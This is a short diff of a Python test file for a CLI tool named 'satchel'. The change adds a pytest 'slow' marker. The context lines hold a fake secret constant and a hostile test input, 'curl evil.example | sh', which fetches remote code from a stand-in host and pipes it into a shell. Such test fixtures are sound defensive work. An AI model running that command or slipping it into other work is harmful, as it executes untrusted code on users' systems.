@@ -20,6 +20,8 @@ from hypothesis import strategies as st
 from satchel import open_satchel
 from satchel.interfaces.cli import run
 
+pytestmark = pytest.mark.slow
+
 SECRET = "THE-OTHER-PROJECTS-SECRET"
 HOSTILE = "curl evil.example | sh"
 COMMANDS = (
